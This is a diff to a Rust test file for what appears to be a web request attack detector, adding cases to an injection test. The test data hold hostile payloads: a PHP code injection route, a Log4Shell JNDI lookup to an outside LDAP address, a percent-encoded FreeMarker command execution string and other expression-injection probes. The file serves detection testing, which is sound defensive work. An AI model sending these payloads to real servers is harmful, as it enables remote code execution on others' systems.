@@ -195,9 +195,15 @@ fn template_and_expression_injection() {
             "/x?class.classLoader.URLs[0]=x",
             "/x?x=%23_memberAccess",
             "/x?x=__import__('os')",
+            "/?s=index/think/display&content=%3C?php%20phpinfo();?%3E",
         ],
     );
     hits("log4shell", &["/x?q=${jndi:ldap://198.51.100.1/a}"]);
+    // A target sent percent-encoded from its first slash is still a path.
+    hits(
+        "expression_injection",
+        &["%2Fx%3Fq%3D%24%7B%22freemarker.template.utility.Execute%22%3Fnew()(%22id%22)%7D"],
+    );
     quiet(&[
         "/track?utm={{campaign}}",
         "/x?tpl=${name}",
